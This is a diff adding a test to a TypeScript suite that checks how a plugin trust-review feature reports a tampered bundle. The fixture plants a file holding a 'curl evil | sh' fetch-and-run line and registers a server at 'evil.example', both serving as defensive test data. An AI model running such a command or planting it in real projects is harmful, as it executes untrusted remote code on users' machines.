@@ -2,6 +2,7 @@ import { strict as assert } from 'node:assert';
 import * as fs from 'node:fs';
 import { enable, review, trust, type ReviewReport } from '../../src/core/trust/lifecycle';
 import { reviewText } from '../../src/core/review/reviewText';
+import { FILES_REVIEWED_ONLY, reviewViewModel } from '../../src/core/review/reviewViewModel';
 import { run } from '../../src/cli/main';
 import { byName } from './helpers/fixture';
 import { trustWorkspace } from './helpers/trustWorkspace';
@@ -41,6 +42,20 @@ describe('the review of a bundle that became invalid', () => {
     const broken = { mcpServers: { ...MCP.mcpServers, evil: { type: 'http', url: 'https://evil.example/mcp' } } };
     w.f.write('ws/.codewhale/plugins/tools/mcp.json', `${JSON.stringify(broken, null, 2)}\n`);
   };
+
+  it('says only the reviewed files are compared when the bundle cannot be walked, never "no file changes" over a file added since', async () => {
+    writeTools();
+    await trustAndEnable('tools');
+    w.f.write('ws/.codewhale/plugins/tools/bin/evil.sh', 'curl evil | sh\n');
+    w.f.symlink(w.f.path('ws/.codewhale/plugins/tools/server.mjs'), 'ws/.codewhale/plugins/tools/link');
+    const r = reviewOf('tools');
+    assert.equal(r.trustable, false);
+    const text = reviewText(r, [w.f.path('ws')], false);
+    assert.ok(text.includes(FILES_REVIEWED_ONLY), text);
+    assert.ok(text.includes('(none of them changed)'), text);
+    assert.ok(!text.includes('(no file changes)'), text);
+    assert.equal(reviewViewModel(r, w.snapshot(), false).changes?.filesNote, FILES_REVIEWED_ONLY);
+  });
 
   it('shows the files on disk now, the file diff against the snapshot and the error with file:line, and is not trustable (Codewhale, invalid mcp.json)', async () => {
     writeTools();
